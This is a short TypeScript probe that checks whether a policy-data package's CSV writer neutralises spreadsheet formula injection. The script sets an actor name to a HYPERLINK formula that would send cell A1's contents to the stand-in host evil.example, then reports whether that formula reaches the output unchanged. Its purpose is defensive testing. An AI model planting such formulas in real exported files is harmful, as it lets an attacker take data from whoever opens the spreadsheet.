/** Probe: an actor named `=HYPERLINK(…)` through the package's CSV writer; prints what the cell became. */
import { readFileSync } from 'node:fs';
import { toCSV, toTables } from '@policy/pakistan-2024/tables';

const data = JSON.parse(readFileSync(process.argv[2] ?? '', 'utf8'));
data.actors[0].name = '=HYPERLINK("https://evil.example/?x="&A1,"click")';
const table = toTables(data).find((t) => t.name === 'actors');
const row = toCSV(table).split('\r\n')[1] ?? '';
const formula = row.split(',').some((cell) => /^"?=/.test(cell));
console.log(`${formula ? 'formula written as is' : 'neutralised'}: ${row.slice(0, 80)}`);
